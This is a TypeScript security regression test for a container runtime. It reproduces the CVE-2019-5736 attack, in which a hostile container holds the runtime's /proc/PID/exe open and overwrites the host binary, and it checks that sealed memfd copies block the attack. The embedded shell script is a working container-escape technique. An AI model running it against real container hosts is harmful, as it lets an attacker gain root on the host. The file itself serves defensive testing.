/**
 * Overwriting the runtime on the host (CVE-2019-5736). A process of a runtime that stands in a container can be reached
 * there as /proc/PID/exe. A hostile container keeps that file open, waits until the process has ended, and writes: the
 * next container on the host is started by the attacker's program, as root.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { CAPABILITY } from "../../../src/1-kernel/mod.ts";
import type { Box } from "../../suites/oci/rig/box.ts";
import { feature } from "../../suites/oci/rig/feature.ts";
import { execNaively, naiveExec, release, startHeld } from "./rig/naive.ts";

const rule = feature(import.meta.url);
const SYSRUN = fileURLToPath(new URL("../../../../../build/native/sysrun", import.meta.url));

/**
 * Waits for a process of the runtime, holds its file, and writes to it when the process is gone. It is busy for as long as
 * any process runs it; what else the kernel says is its last word.
 */
const HOSTILE = `
tell() { echo $2 > /tmp/$1.new; mv /tmp/$1.new /tmp/$1; }
while [ ! -e /tmp/outcome ]; do
  for p in /proc/[0-9]*; do
    case "$(readlink $p/exe)" in *sysrun*|*naive-exec*) ;; *) continue ;; esac
    (: < $p/exe) 2>/dev/null || continue
    exec 8< $p/exe
    tell seen "$(readlink $p/exe)"
    while [ -e $p/exe ]; do sleep 0.01; done
    outcome=yes
    until (echo overwritten > /proc/self/fd/8) 2> /tmp/error; do
      grep -q "Text file busy" /tmp/error || { outcome=no; break; }
      sleep 0.01
    done
    tell outcome $outcome
  done
done
exec sleep 1000`;

/** Sysrun waits for a plan on its standard input: it stands still in the container for as long as the attack takes. */
const ITSELF = ["/proc/self/exe", "--plan", "0"];

function launchHostile(box: Box): number {
  return box.launch(HOSTILE, (configuration) => {
    configuration.root.readonly = false;
    // It may look only at processes that can do no more than itself.
    const all = Object.keys(CAPABILITY);
    configuration.process.capabilities = { bounding: all, effective: all, permitted: all };
  });
}

async function attackOn(box: Box, victim: ReturnType<typeof startHeld>): Promise<string> {
  const file = (name: string) => join(box.rootfs, "tmp", name);
  try {
    await box.until("the hostile process to find the runtime's", () => existsSync(file("seen")));
  } finally {
    await release(victim);
  }
  await box.until("the attack to end", () => existsSync(file("outcome")));
  return readFileSync(file("outcome"), "utf8").trim();
}

function digest(path: string): string {
  return createHash("sha256").update(readFileSync(path)).digest("hex");
}

rule("a runtime that joins from its own file is overwritten", "CVE-2019-5736", async (box) => {
  const pid = launchHostile(box);
  const victim = execNaively(box, pid, ["/proc/self/exe"]);
  // Past its wait: it becomes, inside, the program that the attacker wants to see.
  victim.stdin?.write(".");
  assert.equal(await attackOn(box, victim), "yes");
  assert.equal(readFileSync(naiveExec(box), "utf8"), "overwritten\n");
});

rule("exec shows the container a sealed copy", "CVE-2019-5736; man 2 memfd_create, F_SEAL_WRITE", async (box) => {
  launchHostile(box);
  const before = digest(SYSRUN);
  const command = [...box.runtime.command, "--root", box.path("root"), "exec", box.id, ...ITSELF];
  assert.equal(await attackOn(box, startHeld(command)), "no");
  assert.match(readFileSync(join(box.rootfs, "tmp/seen"), "utf8"), /memfd:sysrun/);
  assert.match(readFileSync(join(box.rootfs, "tmp/error"), "utf8"), /Operation not permitted/);
  assert.equal(digest(SYSRUN), before);
});

rule("create shows a pod's other containers a sealed copy", "CVE-2019-5736", async (box) => {
  const pid = launchHostile(box);
  const before = digest(SYSRUN);
  box.configure("", (configuration) => {
    configuration.process.args = ITSELF;
    const processes = configuration.linux.namespaces.find(({ type }) => type === "pid");
    if (processes) processes.path = `/proc/${pid}/ns/pid`;
  });
  const command = [...box.runtime.command, "--root", box.path("root"), "run", `${box.id}-second`];
  assert.equal(await attackOn(box, startHeld(command, box.bundle)), "no");
  assert.equal(digest(SYSRUN), before);
});
